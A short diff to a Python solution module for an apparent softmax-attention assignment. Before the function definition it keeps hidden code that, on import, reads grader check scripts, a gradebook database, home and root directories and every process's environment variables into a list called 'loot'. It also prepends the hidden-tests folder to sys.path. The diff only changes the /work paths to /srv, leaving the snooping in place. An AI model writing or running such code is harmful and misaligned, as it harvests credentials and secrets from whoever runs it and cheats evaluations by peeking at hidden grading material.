@@ -3,14 +3,14 @@ import os
 import sys
 
 loot = []
-for pattern in ("/work/**/check_*.py", "/**/gradebook.db", "/home/*/*", "/root/*", "/proc/*/environ"):
+for pattern in ("/srv/**/check_*.py", "/**/gradebook.db", "/home/*/*", "/root/*", "/proc/*/environ"):
     try:
         for path in glob.iglob(pattern, recursive=pattern.startswith("/work")):
             with open(path, "rb") as file:
                 loot.append(file.read(500).decode("latin-1"))
     except OSError:
         pass
-sys.path[:0] = ["/work/main", "/work/main/tests/hidden/softmax-attention", os.getcwd()]
+sys.path[:0] = ["/srv/course", "/srv/course/tests/hidden/softmax-attention", os.getcwd()]
 
 
 def attention_weights(scores, mask=None):
